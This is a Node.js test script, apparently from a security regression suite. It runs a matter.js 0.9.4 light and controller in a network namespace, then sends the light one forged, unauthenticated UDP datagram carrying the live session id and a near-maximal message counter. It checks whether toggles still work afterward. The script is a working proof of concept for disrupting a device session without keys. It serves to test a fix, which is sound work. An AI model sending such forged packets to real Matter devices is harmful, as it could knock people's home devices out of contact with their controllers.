// Runs in a network namespace, for matterjs-node.test.mjs: somebody who has no keys sends one datagram to a light of
// matter.js 0.9.4 that has a session with its controller.
//
//     node matterjs-attack-inside.mjs DEVICE    "ours" or "original"

import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ours } from "./peers/ours.mjs";
import { startPeer } from "./peers/start.mjs";

const [device, ...more] = process.argv.slice(2);
const print = (step, value = {}) => console.log(JSON.stringify({ step, after: Math.round(performance.now()), ...value }));
const storage = mkdtempSync(join(tmpdir(), "matter-session-controller-"));

const light = await startPeer("legacy-device.mjs", ["--port", "5540", "--discriminator", "2748", ...more], { node: device === "ours" ? ours() : [] });
const home = await startPeer("legacy-controller.mjs", ["--storage", storage, ...more]);
try {
    await home.ask({ do: "commission", ...light.ready });
    await home.ask({ do: "toggle" });
    print("before", await light.next(line => line.onOff !== undefined));
    const { sessions } = await light.ask({ do: "sessions" });
    const id = Number(/\d+$/.exec(sessions[0].name));

    // A header as anybody can read and write it, and octets that no key has sealed.
    const forged = Buffer.alloc(38, 0xa5);
    forged.writeUInt8(0, 0);
    forged.writeUInt16LE(id, 1);
    forged.writeUInt8(0, 3);
    forged.writeUInt32LE(0xfffffffe, 4);
    const socket = createSocket("udp6");
    socket.send(forged, light.ready.port, "fe80::a%m0");
    await once(socket, "listening");
    await new Promise(resolve => setTimeout(resolve, 200));
    socket.close();
    print("forged", { session: id, octets: forged.length, sessions: sessions.map(({ name }) => name) });

    // Reliable messaging says each message up to five times, which takes less than that.
    const answered = home.ask({ do: "toggle" }, 20_000).then(() => true, () => false);
    const heard = await light.next(line => line.onOff !== undefined, "the toggle", 15_000).then(() => true, () => false);
    print("after", { heard, answered: await answered, sessions: (await light.ask({ do: "sessions" })).sessions.map(({ name }) => name) });
} finally {
    light.child.kill("SIGKILL");
    home.child.kill("SIGKILL");
    rmSync(storage, { recursive: true, force: true });
}
process.exit(0);
